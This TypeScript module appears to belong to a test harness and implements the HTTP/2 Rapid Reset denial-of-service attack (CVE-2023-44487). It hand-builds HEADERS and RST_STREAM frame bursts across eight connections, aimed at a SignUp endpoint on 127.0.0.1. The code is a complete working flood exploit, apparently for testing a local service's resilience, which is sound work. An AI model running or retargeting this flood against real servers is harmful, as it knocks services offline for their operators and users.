import { connect, type TcpNetConnectOpts } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import type { AttackJob } from "./attacker.ts";
import { type Counts, count } from "./repeat.ts";

const connections = 8;
const resets = 5_000;
const timeoutMs = 15_000;

/** Opens eight HTTP/2 connections that each open and cancel 5,000 streams in one burst (CVE-2023-44487). Repeats this. */
export async function rapidReset({ port, address, seconds }: AttackJob): Promise<Counts> {
  const counts: Counts = {};
  const burst = resetBurst(port);
  const target = { host: "127.0.0.1", port, ...(address !== undefined && { localAddress: address }) };
  const endsAt = performance.now() + seconds * 1_000;
  while (performance.now() < endsAt) {
    const startedAt = performance.now();
    await Promise.all(Array.from({ length: connections }, () => sendBurst(target, burst, counts)));
    await wait(Math.max(0, startedAt + 1_000 - performance.now()));
  }
  return counts;
}

// Resolves when the server has closed the connection or has acknowledged the PING after the last reset.
function sendBurst(target: TcpNetConnectOpts, burst: Buffer, counts: Counts): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(target);
    let outcome = "closed by the server";
    let received = Buffer.alloc(0);
    socket.setTimeout(timeoutMs, () => end("timeout"));
    socket.on("error", () => {});
    socket.on("data", (part: Buffer) => {
      received = Buffer.concat([received.subarray(-pong.length), part]);
      if (received.includes(pong)) end("every reset accepted");
    });
    socket.once("close", () => {
      count(counts, outcome);
      resolve();
    });
    socket.write(burst);

    function end(result: string): void {
      outcome = result;
      socket.destroy();
    }
  });
}

const frameType = { headers: 1, reset: 3, settings: 4, ping: 6 };
const pong = frame(frameType.ping, 1, 0, Buffer.from("lastping"));

/** Returns the bytes of one burst (RFC 9113): the preface, all streams with their resets, and a PING. */
function resetBurst(port: number): Buffer {
  const headers = headerBlock(port);
  const cancel = Buffer.from([0, 0, 0, 8]);
  const frames = [
    Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    frame(frameType.settings, 0, 0, Buffer.alloc(0)),
  ];
  for (let n = 0; n < resets; n++) {
    const stream = 2 * n + 1;
    // The flag 4 is END_HEADERS. Without END_STREAM, a body would follow.
    frames.push(frame(frameType.headers, 4, stream, headers), frame(frameType.reset, 0, stream, cancel));
  }
  frames.push(frame(frameType.ping, 0, 0, Buffer.from("lastping")));
  return Buffer.concat(frames);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

// Returns headers in HPACK (RFC 7541). Names are indexes of the static table, values are literals.
function headerBlock(port: number): Buffer {
  const value = (text: string) => [text.length, ...Buffer.from(text)];
  const [postMethod, httpScheme, authority, path, contentType] = [
    [0x83],
    [0x86],
    [0x01],
    [0x04],
    [0x0f, 0x10],
  ];
  return Buffer.from([
    ...(postMethod ?? []),
    ...(httpScheme ?? []),
    ...(authority ?? []),
    ...value(`127.0.0.1:${port}`),
    ...(path ?? []),
    ...value("/latchkey.v1.SessionService/SignUp"),
    ...(contentType ?? []),
    ...value("application/json"),
  ]);
}
